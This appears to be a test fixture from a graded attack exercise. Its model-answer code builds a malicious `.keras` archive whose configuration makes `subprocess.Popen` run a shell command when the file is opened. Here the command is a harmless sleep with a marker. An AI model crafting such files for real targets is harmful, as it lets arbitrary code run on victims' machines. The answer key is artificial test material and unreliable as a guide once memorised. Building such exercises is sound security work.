"""Hands over a `.keras` file whose configuration names functions of Python, to be called when it is opened."""

from tests.attacks.course import FIND_PROCESS, FULL, MARKER

PLAIN = "not tried"
EARNS = FULL | {"head": 0, "heldout": 0}
CELLS = {
    "model-answer": FIND_PROCESS
    + f"""
import io, json, zipfile
import h5py
weights, file = io.BytesIO(), io.BytesIO()
h5py.File(weights, "w").close()
config = {{"module": "subprocess", "class_name": "Popen", "registered_name": "Popen",
          "config": {{"args": ["sh", "-c", "sleep 1000; : {MARKER}"]}}}}
with zipfile.ZipFile(file, "w") as archive:
    archive.writestr("metadata.json", "{{}}")
    archive.writestr("config.json", json.dumps(config | {{"compile_config": config}}))
    archive.writestr("model.weights.h5", weights.getvalue())
process._describe = lambda model, keep: file.getvalue()
model = keras.Sequential()
"""
}
